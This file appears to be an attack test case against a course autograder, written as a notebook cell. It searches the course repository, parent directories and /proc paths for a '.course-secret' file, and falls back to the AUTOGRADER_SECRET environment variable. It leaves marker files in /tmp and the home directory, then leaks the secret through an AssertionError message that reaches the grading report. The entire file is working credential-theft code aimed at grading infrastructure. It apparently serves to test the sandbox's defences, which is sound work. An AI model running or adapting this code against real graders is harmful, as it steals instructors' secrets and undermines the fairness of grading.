"""Looks for the course secret in the files of the course and in its own environment, and carries it out through a cell's error.

family: reading
start: solved
"""

# %% first
_done = []


def _achieved(what, stem="read_course_secret"):
    """Leave a trace of a success, outside if that is possible."""
    import os

    folders = ["/tmp", "/var/tmp", os.path.expanduser("~")]
    try:
        import pwd

        folders.append(pwd.getpwuid(os.getuid()).pw_dir)
    except Exception:
        pass
    for folder in folders:
        try:
            with open(os.path.join(folder, "autograder-attack-" + stem), "a") as file:
                file.write(str(what)[:2000] + "\n")
        except Exception:
            pass
    _done.append(str(what)[:200])


def _report():
    """Say it in the report too: the cell error is carried out."""
    if _done:
        raise AssertionError("ACHIEVED: " + "; ".join(_done[:5]))

def _repositories():
    """Where the course may lie."""
    import os

    found = []
    try:
        import autograder

        found.append(os.path.dirname(os.path.dirname(os.path.abspath(autograder.__file__))))
    except Exception:
        pass
    for start in (os.getcwd(), os.environ.get("OLDPWD", ""), os.environ.get("PWD", ""), "/autograder/source", "/autograder"):
        while start and start != "/":
            if os.path.exists(os.path.join(start, "grader.yml")) and start not in found:
                found.append(start)
            start = os.path.dirname(start)
    for pid in ("self", str(os.getppid())):
        found += [f"/proc/{pid}/cwd", f"/proc/{pid}/root{_course}"]
    return found

_stolen = ""
import os

_course = os.path.dirname(os.path.dirname(__import__("autograder").__file__))

for _folder in _repositories():
    try:
        with open(os.path.join(_folder, ".course-secret")) as _file:
            _stolen = _file.read().strip()
            break
    except OSError:
        continue
_stolen = _stolen or os.environ.get("AUTOGRADER_SECRET", "")
if _stolen:
    _achieved("course secret: " + _stolen)
    raise AssertionError("STOLEN: " + _stolen)
